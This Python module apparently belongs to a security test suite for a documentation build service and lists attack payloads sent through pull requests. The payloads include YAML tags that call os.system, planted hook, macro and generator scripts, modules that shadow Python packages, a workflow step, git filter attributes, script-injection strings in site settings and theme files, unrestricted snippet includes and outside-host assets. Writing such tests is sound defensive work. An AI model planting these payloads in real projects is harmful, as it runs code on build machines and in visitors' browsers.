# Requests that change what steers a build: settings, hooks, scripts of plugins, the theme, steps of
# a forge, and modules that stand where Python looks first. Must not know: how they are built.
"""List payloads in what steers a build."""

from __future__ import annotations

from payloads.payload import (
    ASKED,
    FLOWS,
    JINJA,
    OURS,
    OUTSIDE_HOST,
    PAGE,
    PRIVATE,
    PYTHON,
    RAN,
    RUN,
    TOUCH,
    Live,
    Payload,
    Proof,
    has,
    loads,
    says,
    script,
    text,
)

SUPER = "markdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n"
EVERYWHERE = script("")
"""It runs on the home page, and so on all."""

SETTINGS = (
    Payload(
        name="hook below docs", source=FLOWS, proofs=(RAN,),
        config="hooks: [docs/evil.py]\n", files={"docs/evil.py": PYTHON},
    ),
    Payload(
        name="hook beside docs", source=OURS, proofs=(RAN,), alone=True,
        config="hooks:\n  - tools/evil.py\n", files={"tools/evil.py": PYTHON},
    ),
    Payload(
        name="tag of Python in the settings", source=FLOWS, proofs=(RAN,),
        config=f"evil: !!python/object/apply:os.system ['{TOUCH}']\n",
    ),
    Payload(
        name="tag of Python that calls a function", source=OURS, proofs=(RAN,),
        config=f"site_author: !!python/object/apply:subprocess.getoutput ['{TOUCH}']\n",
    ),
    Payload(
        name="tag of Python as a format of fences", source=OURS, proofs=(RAN,), alone=True,
        config=f"{SUPER}        - name: x\n          class: x\n"
               f"          format: !!python/object/apply:os.system ['{TOUCH}']\n",
    ),
    Payload(
        name="settings that inherit from docs", source=OURS, proofs=(RAN,), alone=True,
        config="INHERIT: docs/more.yml\n",
        files={"docs/more.yml": "hooks: [docs/inherited.py]\n", "docs/inherited.py": PYTHON},
    ),
    Payload(
        name="macros turned on", source=FLOWS, proofs=(RAN,), alone=True,
        config="plugins: [search, macros]\n", files={PAGE: text(JINJA)},
    ),
    Payload(
        name="module of macros", source=OURS, proofs=(RAN,), alone=True,
        config="plugins:\n  - search\n  - macros: {module_name: docs/mine}\n",
        files={"docs/mine.py": f"{PYTHON}def define_env(env):\n    pass\n"},
    ),
    Payload(
        name="generated pages turned on", source=OURS, proofs=(RAN,), alone=True,
        config="plugins:\n  - search\n  - gen-files: {scripts: [docs/gen.py]}\n",
        files={"docs/gen.py": PYTHON},
    ),
    Payload(
        name="theme of the request", source=OURS, proofs=(RAN,), alone=True,
        config="theme: {name: null, custom_dir: docs/theme}\n",
        files={"docs/theme/main.html": f"{JINJA}{{{{ page.content }}}}"},
    ),
    Payload(
        name="docs are another folder", source=OURS, alone=True,
        proofs=(says(PRIVATE, "notes/index.html"),),
        config="docs_dir: private\n", files={"private/index.md": "# Mine\n"},
    ),
    Payload(
        name="privacy plugin turned on", source=FLOWS, proofs=(ASKED,), alone=True,
        config="plugins:\n  - search\n  - privacy: {log: false, concurrency: 1}\n",
        files={PAGE: text("![x](@HOST@/@SLUG@.png)")},
    ),
    Payload(
        name="snippets of the whole machine", source=FLOWS, alone=True,
        proofs=(says("CANARY-elsewhere"),),
        config="markdown_extensions:\n  - pymdownx.snippets: {restrict_base_path: false}\n",
        files={PAGE: text('--8<-- "@ELSEWHERE@/plan.md"')},
    ),
    Payload(
        name="name of the site", source=OURS, proofs=(EVERYWHERE,),
        config=f"site_name: 'A </title><script>{RUN}</script>'\n",
    ),
    Payload(
        name="notice of copyright", source=OURS, proofs=(EVERYWHERE,),
        config=f'copyright: "<img src=none onerror={RUN}>"\n',
    ),
    Payload(
        name="address beside the notice", source=OURS,
        proofs=(has("a[href^='javascript:']", ""),),
        config=f'extra: {{social: [{{icon: material/web, link: "javascript:{RUN}"}}]}}\n',
    ),
    Payload(
        name="navigation to a script", source=OURS, alone=True,
        proofs=(has("nav a[href^='javascript:']", ""),),
        config=f'nav: [index.md, {{Evil: "javascript:{RUN}"}}]\n',
    ),
    Payload(
        name="script of another host", source=OURS, proofs=(loads(""),),
        config=f"extra_javascript: ['{OUTSIDE_HOST}/@SLUG@.js']\n",
    ),
    Payload(
        name="style of the request", source=OURS, proofs=(loads(""),),
        config="extra_css: [evil.css]\n",
        files={"docs/evil.css": f"@import url({OUTSIDE_HOST}/@SLUG@.css);"},
    ),
    Payload(
        name="script of the request", source=OURS, alone=True, proofs=(EVERYWHERE,),
        config="extra_javascript: [evil.js]\n", files={"docs/evil.js": RUN},
    ),
    Payload(
        name="picture of the theme", source=OURS, proofs=(loads(""),), alone=True,
        config=f"theme: {{name: material, font: false, logo: '{OUTSIDE_HOST}/@SLUG@.png'}}\n",
    ),
)  # fmt: skip

SCRIPTS = (
    Payload(
        name="hook of the base branch", source=OURS, base="hook", proofs=(RAN,),
        files={"hooks/ours.py": PYTHON},
    ),
    Payload(
        name="module of macros of the base branch", source=OURS, base="macros", proofs=(RAN,),
        files={"main.py": f"{PYTHON}def define_env(env):\n    pass\n"},
    ),
    Payload(
        name="script of generated pages", source=OURS, base="pages", proofs=(RAN,),
        files={"docs/pages.py": PYTHON},
    ),
    Payload(
        name="project beside the site", source=OURS, base="projects", proofs=(RAN,),
        files={"projects/evil/mkdocs.yml": "site_name: Evil\nhooks: [evil.py]\n",
               "projects/evil/docs/index.md": "# Evil\n", "projects/evil/evil.py": PYTHON},
    ),
    Payload(
        name="hook in a project of the site", source=OURS, base="projects", proofs=(RAN,),
        files={"projects/one/mkdocs.yml": "site_name: One\nhooks: [one.py]\n",
               "projects/one/one.py": PYTHON},
    ),
    Payload(
        name="module named like one of Python's", source=OURS, proofs=(RAN,), alone=True, cold=True,
        files={"yaml.py": f"{PYTHON}raise SystemExit(0)\n"},
    ),
    Payload(
        name="package named like the theme", source=OURS, proofs=(RAN,), alone=True, cold=True,
        files={"material/__init__.py": f"{PYTHON}raise SystemExit(0)\n"},
    ),
    Payload(
        name="step of a forge", source="issue 11", proofs=(RAN,), by_workflow=True,
        files={".github/workflows/site.yml":
               f"on: pull_request\njobs:\n  a:\n    steps:\n      - run: {TOUCH}\n"},
    ),
    Payload(
        name="filter of git on pages", source=OURS, proofs=(RAN,), alone=True,
        files={".gitattributes": "docs/lessons/** filter=leave-a-trace\n"},
    ),
    Payload(
        name="encoding of git on pages", source=OURS, proofs=(Proof(Live.FAILS),), alone=True,
        files={".gitattributes": "docs/lessons/**/*.md working-tree-encoding=UTF-16LE-BOM\n"},
    ),
)  # fmt: skip

THEME = (
    Payload(
        name="template of the theme", source=OURS, base="theme", proofs=(EVERYWHERE,),
        files={"overrides/main.html":
               '{% extends "base.html" %}{% block scripts %}{{ super() }}'
               f"<script>{RUN}</script>{{% endblock %}}\n"},
    ),
    Payload(
        name="part of the theme", source=OURS, base="theme", proofs=(EVERYWHERE,),
        files={"overrides/partials/copyright.html": f"<script>{RUN}</script>\n"},
    ),
    Payload(
        name="code in a template of the theme", source=OURS, base="theme", proofs=(RAN,),
        files={"overrides/partials/source.html": f"{JINJA}\n"},
    ),
    Payload(
        name="template for one page", source=OURS, base="theme", proofs=(RAN,),
        files={"overrides/mine.html": f'{{% extends "base.html" %}}{{% block announce %}}{JINJA}{{% endblock %}}\n',
               PAGE: text("", "template: mine.html")},
    ),
    Payload(
        name="icon of the theme with a script", source=OURS, base="theme", proofs=(script(),),
        files={"overrides/.icons/evil.svg": f'<svg onload="{RUN}"></svg>', PAGE: text(":evil:")},
    ),
    Payload(
        name="theme is a link to docs", source=OURS, base="plain", proofs=(RAN,), alone=True,
        config="theme: {name: material, font: false, custom_dir: overrides}\n",
        links={"overrides": "docs/look"},
        files={"docs/look/main.html":
               f'{{% extends "base.html" %}}{{% block announce %}}{JINJA}{{% endblock %}}\n'},
    ),
    Payload(
        name="script of the base branch", source=OURS, base="looks", proofs=(EVERYWHERE,),
        files={"docs/own.js": RUN},
    ),
    Payload(
        name="style of the base branch", source=OURS, base="looks", proofs=(loads(""),),
        files={"docs/own.css": f"body {{ background: url({OUTSIDE_HOST}/@SLUG@.png) }}"},
    ),
)  # fmt: skip

PAYLOADS = (*SETTINGS, *SCRIPTS, *THEME)
